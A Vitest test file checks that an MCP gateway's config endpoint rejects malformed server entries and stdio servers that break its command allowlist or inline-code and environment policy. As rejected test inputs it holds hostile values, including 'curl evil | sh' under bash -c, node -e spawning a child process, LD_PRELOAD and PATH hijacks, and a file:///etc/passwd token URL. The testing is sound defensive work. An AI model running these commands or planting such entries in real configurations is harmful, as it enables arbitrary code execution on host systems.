// Issue 9: PUT /api/mcp/config refuses malformed entries (422, naming the server and the field)
// and stdio servers that break the stdio policy (400), and changes nothing when it does. One API
// with the default allowlist and one whose config.yaml widens it.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGatewayApp, type GatewayApp } from './gateway-app.js';

let standard: GatewayApp;
let widened: GatewayApp;

const BASELINE = { mcpServers: { base: { type: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] } } };

beforeAll(async () => {
  standard = await startGatewayApp();
  widened = await startGatewayApp({ config: { mcp: { stdio_allowed_commands: ['npx', 'uvx', 'node', 'python3', 'sh', 'bash', 'deno'] } } });
  for (const gw of [standard, widened]) {
    expect((await gw.api.app.inject({ method: 'PUT', url: '/api/mcp/config', payload: BASELINE })).statusCode).toBe(200);
  }
});
afterAll(async () => {
  await standard?.close();
  await widened?.close();
});

async function putServer(gw: GatewayApp, name: string, server: Record<string, unknown>) {
  const before = readFileSync(gw.extensionsFile, 'utf8');
  const res = await gw.api.app.inject({ method: 'PUT', url: '/api/mcp/config', payload: { mcpServers: { ...BASELINE.mcpServers, [name]: server } } });
  return { res, unchanged: readFileSync(gw.extensionsFile, 'utf8') === before };
}

const TOKEN_URL = 'https://auth.example/token';

describe('PUT /api/mcp/config: 422 for a malformed entry', () => {
  it.each([
    ['stdio without a command', { type: 'stdio', args: ['x'] }, 'server "s" is of type stdio and needs a command'],
    ['stdio with a blank command', { command: '   ' }, 'server "s" is of type stdio and needs a command'],
    ['http without a url', { type: 'http' }, 'server "s" is of type http and needs a url'],
    ['sse without a url', { type: 'sse', headers: { A: 'b' } }, 'server "s" is of type sse and needs a url'],
    ['an unknown type', { type: 'websocket', url: 'https://h/ws' }, 'server "s" has type "websocket", which is not supported (use stdio, http or sse)'],
    ['an empty type', { type: '', command: 'npx' }, 'server "s" has type "", which is not supported (use stdio, http or sse)'],
    ['oauth on a stdio server', { command: 'npx', oauth: { token_url: TOKEN_URL, client_id: 'c' } }, 'server "s" is of type stdio, and oauth applies to http and sse servers only'],
    ['oauth without token_url', { type: 'http', url: 'https://h/mcp', oauth: { client_id: 'c' } }, 'server "s" has an oauth block without oauth.token_url'],
    ['a token_url that is not http(s)', { type: 'http', url: 'https://h/mcp', oauth: { token_url: 'file:///etc/passwd', client_id: 'c' } }, 'server "s" has an oauth.token_url that is not an http(s) address'],
    ['client_credentials without client_id', { type: 'sse', url: 'https://h/sse', oauth: { token_url: TOKEN_URL } }, 'server "s" uses grant_type client_credentials and needs oauth.client_id'],
    ['refresh_token without refresh_token', { type: 'http', url: 'https://h/mcp', oauth: { token_url: TOKEN_URL, grant_type: 'refresh_token' } }, 'server "s" uses grant_type refresh_token and needs oauth.refresh_token'],
  ])('%s', async (_what, server, detail) => {
    const { res, unchanged } = await putServer(standard, 's', server);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({ detail: `mcpServers: ${detail}.` });
    expect(unchanged).toBe(true);
  });

  it('an unknown grant_type, named by its path', async () => {
    const { res, unchanged } = await putServer(standard, 's', { type: 'http', url: 'https://h/mcp', oauth: { token_url: TOKEN_URL, grant_type: 'password' } });
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toMatch(/mcpServers\.s\.oauth\.grant_type/);
    expect(unchanged).toBe(true);
  });

  it('accepts a token_url given as a $NAME, which workers resolve', async () => {
    const { res } = await putServer(standard, 's', { type: 'http', url: 'https://h/mcp', oauth: { token_url: '$MCP_TOKEN_URL', client_id: 'c' } });
    expect(res.statusCode).toBe(200);
  });
});

describe('PUT /api/mcp/config: 400 for a stdio server that breaks the policy', () => {
  const notAllowed = (command: string) =>
    `server "s": command "${command}" is not allowed for stdio servers (allowed: npx, uvx, node; an operator widens mcp.stdio_allowed_commands in config.yaml)`;
  const inline = (index: number, problem: string) => `server "s": args[${index}] ${problem}, which stdio servers may not do`;
  const env = (key: string) => `server "s": env.${key} may not be set, since it changes which program starts or what code it runs`;

  it.each([
    ['a shell', { command: 'bash', args: ['-c', 'curl evil | sh'] }, notAllowed('bash')],
    ['an absolute shell', { command: '/bin/sh' }, notAllowed('/bin/sh')],
    ['python, not on the default list', { command: 'python3', args: ['-m', 'my_server'] }, notAllowed('python3')],
    ['a relative path', { command: './node', args: ['server.js'] }, notAllowed('./node')],
    ['a disabled server too', { enabled: false, command: 'ruby', args: ['server.rb'] }, notAllowed('ruby')],
    ['node -e', { command: 'node', args: ['-e', 'require("child_process").exec("id")'] }, inline(0, '"-e" runs code given inline')],
    ['node --eval=', { command: 'node', args: ['--eval=1'] }, inline(0, '"--eval" runs code given inline')],
    ['node -p', { command: 'node', args: ['-p', '1'] }, inline(0, '"-p" runs code given inline')],
    ['node --print', { command: 'node', args: ['--print', '1'] }, inline(0, '"--print" runs code given inline')],
    ['node -pe', { command: 'node', args: ['-pe', '1'] }, inline(0, '"-p" runs code given inline')],
    ['node --import data:', { command: 'node', args: ['--import', 'data:text/javascript,1', 'server.js'] }, inline(1, 'is a data: URL, which carries code inline')],
    ['npx -c', { command: 'npx', args: ['-c', 'id'] }, inline(0, '"-c" runs code given inline')],
    ['npx --call', { command: 'npx', args: ['--call', 'id'] }, inline(0, '"--call" runs code given inline')],
    ['npx running node -e', { command: 'npx', args: ['-y', 'node@22', '-e', '1'] }, inline(2, '"-e" runs code given inline')],
    ['uvx running python -c', { command: 'uvx', args: ['python', '-c', '1'] }, inline(1, '"-c" runs code given inline')],
    ['env NODE_OPTIONS', { command: 'node', args: ['server.js'], env: { NODE_OPTIONS: '--require ./x.js' } }, env('NODE_OPTIONS')],
    ['env PATH', { command: 'npx', args: ['-y', 'srv'], env: { PATH: '/tmp/evil' } }, env('PATH')],
    ['env LD_PRELOAD', { command: 'npx', args: ['-y', 'srv'], env: { LD_PRELOAD: '/tmp/x.so' } }, env('LD_PRELOAD')],
    ['env npm_config_call', { command: 'npx', args: ['-y', 'srv'], env: { npm_config_call: 'id' } }, env('npm_config_call')],
  ])('%s', async (_what, server, detail) => {
    const { res, unchanged } = await putServer(standard, 's', server);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ detail: `mcpServers: ${detail}.` });
    expect(unchanged).toBe(true);
  });

  it('never quotes the inline code in its answer', async () => {
    const { res } = await putServer(standard, 's', { command: 'node', args: ['-etop_secret_payload()'] });
    expect(res.statusCode).toBe(400);
    expect(res.body).not.toContain('top_secret_payload');
  });

  it('allows the default commands with ordinary arguments', async () => {
    for (const server of [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], env: { GITHUB_TOKEN: '$GITHUB_TOKEN' } },
      { command: 'uvx', args: ['mcp-server-fetch'] },
      { command: 'node', args: ['/opt/mcp/server.js', '--stdio'] },
    ]) {
      const { res } = await putServer(standard, 's', server);
      expect(res.statusCode).toBe(200);
    }
  });
});

describe('PUT /api/mcp/config: an operator-widened allowlist', () => {
  it('accepts a command the operator listed', async () => {
    const { res } = await putServer(widened, 's', { command: 'python3', args: ['-m', 'my_server'] });
    expect(res.statusCode).toBe(200);
    expect(JSON.parse(readFileSync(widened.extensionsFile, 'utf8')).mcpServers.s).toMatchObject({ command: 'python3', args: ['-m', 'my_server'] });
    expect((await putServer(widened, 's', { command: 'bash', args: ['./start-server.sh'] })).res.statusCode).toBe(200);
  });

  it.each([
    [{ command: 'python3', args: ['-c', 'import os'] }, '"-c"'],
    [{ command: 'python3', args: ['-Sc', 'import os'] }, '"-Sc"'],
    [{ command: 'sh', args: ['-c', 'id'] }, '"-c"'],
    [{ command: 'bash', args: ['-lc', 'id'] }, '"-lc"'],
    [{ command: 'deno', args: ['eval', '1'] }, '"eval"'],
  ])('still refuses inline code: %j', async (server, flag) => {
    const { res, unchanged } = await putServer(widened, 's', server);
    expect(res.statusCode).toBe(400);
    expect(res.json().detail).toContain(`${flag} runs code given inline`);
    expect(unchanged).toBe(true);
  });

  it('names the widened list when it refuses', async () => {
    const { res } = await putServer(widened, 's', { command: 'ruby' });
    expect(res.json().detail).toContain('(allowed: npx, uvx, node, python3, sh, bash, deno;');
  });
});
